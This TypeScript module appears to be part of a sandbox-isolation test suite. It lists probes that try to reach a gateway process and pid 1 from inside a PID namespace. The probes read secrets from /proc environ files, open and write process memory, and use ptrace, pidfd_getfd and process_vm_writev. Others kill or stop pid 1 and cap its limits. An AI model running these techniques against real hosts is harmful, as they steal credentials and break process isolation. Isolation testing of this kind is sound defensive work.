/** Other processes: what they hold, and power over them. */
import { readdirSync, readFileSync, readlinkSync } from 'node:fs'
import { setTimeout as delay } from 'node:timers/promises'
import { type Attack, attempt, call, perl } from '../attack.js'

const pids = (): string[] => readdirSync('/proc').filter((name) => /^\d+$/.test(name) && name !== String(process.pid))

/** Reads something of each process; what may not be read is passed over. */
function search(file: string, text: string): string | boolean {
  const found = pids().find((pid) => attempt(() => readFileSync(`/proc/${pid}/${file}`, 'latin1').includes(text)).got)
  return found === undefined ? false : `found in /proc/${found}/${file}`
}

const readMemory = (pid: string | number): string => `
  open(my $maps, '<', '/proc/${pid}/maps') or do { $r = -1; last };
  my ($at) = <$maps> =~ /^([0-9a-f]+)/ or do { $r = -1; $! = 3; last };
  open(my $mem, '+<', '/proc/${pid}/mem') or do { $r = -1; last };
  sysseek($mem, hex($at), 0); $r = sysread($mem, my $bytes, 16) // -1`

export const processes: readonly Attack[] = [
  {
    name: "the gateway's environment",
    goal: 'a secret of the gateway read from any /proc/PID/environ',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ marker }) => attempt(() => search('environ', marker)),
  },
  {
    name: "the gateway's command line",
    goal: 'the gateway found by any /proc/PID/cmdline',
    against: 'pid-namespace',
    bare: 'anyone',
    run: () => attempt(() => search('cmdline', 'gateway.js')),
  },
  {
    name: "pid 1's environment",
    goal: 'anything read from /proc/1/environ',
    against: 'pid-namespace',
    bare: 'depends',
    run: () => attempt(() => readFileSync('/proc/1/environ').length > 0),
  },
  {
    name: 'its own environment',
    goal: 'a variable of the gateway’s found in it',
    against: 'environment',
    bare: 'anyone',
    run: ({ marker }) => attempt(() => Object.values(process.env).includes(marker)),
  },
  {
    name: "pid 1's memory",
    goal: '/proc/1/mem opened to read and write',
    against: 'pid-namespace',
    bare: 'depends',
    run: () => perl(`for (1) { ${readMemory(1)} }`),
  },
  {
    name: "pid 1's root, folder and descriptors",
    goal: 'another file tree, or a descriptor, by way of /proc/1',
    against: 'pid-namespace',
    bare: 'depends',
    run: ({ outside, marker }) =>
      attempt(() => {
        for (const way of ['root', 'cwd', ...attemptList('/proc/1/fd').map((fd) => `fd/${fd}`)]) {
          for (const up of ['', '/..', '/../..']) {
            const path = `/proc/1/${way}${up}${outside}/secret`
            if (attempt(() => readFileSync(path, 'utf8').includes(marker)).got) return `read ${path}`
          }
        }
        return false
      }),
  },
  {
    name: "the gateway's memory",
    goal: "the gateway's /proc/PID/mem opened to read and write",
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => perl(`for (1) { ${readMemory(gateway)} }`),
  },
  {
    name: "the gateway's memory by process_vm_readv",
    goal: 'bytes of the gateway copied',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) =>
      perl(`
        my $at = '1000'; if (open(my $maps, '<', '/proc/${gateway}/maps')) { ($at) = <$maps> =~ /^([0-9a-f]+)/ }
        my $buffer = "\\0" x 16; my $local = pack('PQ', $buffer, 16); my $remote = pack('QQ', hex($at), 16);
        $r = syscall(310, ${gateway}, $local, 1, $remote, 1, 0)`),
  },
  {
    name: 'a signal to the gateway',
    goal: 'kill(2) accepted for the gateway (signal 0)',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => attempt(() => process.kill(gateway, 0)),
  },
  {
    name: 'a descriptor of the gateway by pidfd',
    goal: 'pidfd_open of the gateway, pidfd_getfd of its descriptor 1',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => perl(`my $fd = syscall(434, ${gateway}, 0); $r = $fd == -1 ? -1 : syscall(438, $fd, 1, 0)`),
  },
  {
    name: 'ptrace of the gateway',
    goal: 'the gateway traced (PTRACE_SEIZE)',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => call(101, 0x4206, gateway, 0, 0),
  },
  {
    name: 'ptrace of an own child',
    goal: 'the kernel’s ptrace code reached at all',
    against: 'pid-namespace',
    bare: 'anyone',
    run: () =>
      perl(
        `my $pid = fork; if (!$pid) { sleep 5; exit } $r = syscall(101, 0x4206, $pid, 0, 0); my $e = $!; kill 9, $pid; $! = $e`,
      ),
  },
  {
    name: 'ptrace of pid 1',
    goal: 'the sandbox’s first process traced',
    against: 'pid-namespace',
    bare: 'harmful',
    run: () => call(101, 0x4206, 1, 0, 0),
  },
  {
    name: 'the list of processes',
    goal: 'a process that is neither the server’s nor the sandbox’s first seen in /proc',
    against: 'pid-namespace',
    bare: 'anyone',
    run: async () => {
      // What an earlier attack orphaned is gone in a moment; what belongs to the host stays.
      let strange = pids()
      for (let round = 0; round < 20 && strange.length > 0; round += 1) {
        strange = pids().filter((pid) => pid !== '1' && !descends(pid))
        await delay(25)
      }
      return { got: strange.length > 0, how: strange.slice(0, 5).join(' ') }
    },
  },
  {
    name: "the gateway's descriptors",
    goal: 'their numbers listed in /proc/PID/fd',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => attempt(() => readdirSync(`/proc/${gateway}/fd`).length > 0),
  },
  {
    name: "the gateway's root",
    goal: 'a file read by way of /proc/PID/root',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway, outside, marker }) =>
      attempt(() => readFileSync(`/proc/${gateway}/root${outside}/secret`, 'utf8').includes(marker)),
  },
  {
    name: "the gateway's memory by process_vm_writev",
    goal: 'a byte of the gateway changed',
    against: 'pid-namespace',
    bare: 'harmful',
    run: ({ gateway }) =>
      perl(`my $b = 'x'; my $local = pack('PQ', $b, 1); my $remote = pack('QQ', 4096, 1);
        $r = syscall(311, ${gateway}, $local, 1, $remote, 1, 0)`),
  },
  {
    name: 'kcmp with the gateway',
    goal: 'its open files compared with own ones',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => perl(`my $own = $$; $r = syscall(312, $own, ${gateway}, 0, 1, 1)`),
  },
  {
    name: 'a forged signal to the gateway',
    goal: 'rt_sigqueueinfo(2) accepted for the gateway (signal 0)',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => perl(`my $info = pack('iii', 0, 0, -1) . "\\0" x 116; $r = syscall(129, ${gateway}, 0, $info)`),
  },
  {
    name: "a signal to the gateway's thread",
    goal: 'tgkill(2) accepted for the gateway (signal 0)',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => call(234, gateway, gateway, 0),
  },
  {
    name: "the gateway's priority",
    goal: 'setpriority(2) accepted for the gateway (at its own value)',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => call(141, 0, gateway, 0),
  },
  {
    name: "the gateway's processors",
    goal: 'sched_setaffinity(2) accepted for the gateway (all of them)',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => perl(`my $all = "\\xff" x 128; $r = syscall(203, ${gateway}, 128, $all)`),
  },
  {
    name: "the gateway's place in the queue for disks",
    goal: 'ioprio_get(2) answers for the gateway',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => call(252, 1, gateway),
  },
  {
    name: "the gateway's pages",
    goal: 'move_pages(2) accepted for the gateway (of no page)',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => call(279, gateway, 0, 0, 0, 0, 0),
  },
  {
    name: "the gateway's limits",
    goal: 'read or set by prlimit(2)',
    against: 'pid-namespace',
    bare: 'anyone',
    run: ({ gateway }) => perl(`my $l = "\\0" x 16; $r = syscall(302, ${gateway}, 7, 0, $l)`),
  },
  {
    name: "pid 1's limits",
    goal: 'the gate’s open files limited, so that it no longer hears of the gateway’s end',
    against: 'dies-with-gateway',
    bare: 'harmful',
    run: () => perl(`my $l = pack('QQ', 0, 0); $r = syscall(302, 1, 7, $l, 0)`),
  },
  {
    name: 'pid 1 killed or stopped',
    goal: 'a gate that no longer hears of the gateway’s end',
    against: 'dies-with-gateway',
    bare: 'inside',
    run: () =>
      perl(`kill($_, 1) for qw(KILL STOP TERM INT HUP QUIT TSTP SEGV); select undef, undef, undef, 0.05;
        my $f; my $there = open($f, '<', '/proc/1/stat'); $r = $there && <$f> !~ /^1 \\(.*\\) [TtZX]/ ? -1 : 0; $! = 1`),
  },
  {
    name: "pid 1's settings",
    goal: 'one of /proc/1 written (to what it is)',
    against: 'dies-with-gateway',
    bare: 'depends',
    run: () =>
      perl(`$r = -1; for my $name (qw(oom_score_adj timerslack_ns coredump_filter clear_refs)) {
        open(my $f, '+<', "/proc/1/$name") or next; my $value = <$f> // '0'; seek($f, 0, 0);
        if (syswrite($f, $value)) { $r = 0; last } }`),
  },
]

function attemptList(folder: string): string[] {
  try {
    return readdirSync(folder)
  } catch {
    return []
  }
}

/** True for the server itself and what it started. */
function descends(pid: string): boolean {
  for (let at = pid; at !== '0' && at !== '1'; ) {
    if (at === String(process.pid)) return true
    const parent = attempt(() => /^PPid:\s*(\d+)/m.exec(readFileSync(`/proc/${at}/status`, 'utf8'))?.[1] ?? '0')
    if (!parent.got) return true
    at = parent.how
  }
  return false
}

/** Descriptors that stand open in the server and that neither it nor Node opened. */
export const descriptors: Attack = {
  name: 'inherited descriptors',
  goal: 'a file, folder or socket that the gateway or its parent had open',
  against: 'descriptors',
  bare: 'anyone',
  run: () =>
    attempt(() => {
      const open = readdirSync('/proc/self/fd').filter((fd) => Number(fd) > 2)
      const files = open
        .map((fd) => attempt(() => readlinkSync(`/proc/self/fd/${fd}`)))
        .filter(({ got, how }) => got && /^\/(?!dev\/null|proc\/)/.test(how))
      return files.length === 0 ? false : files.map(({ how }) => how).join(' ')
    }),
}
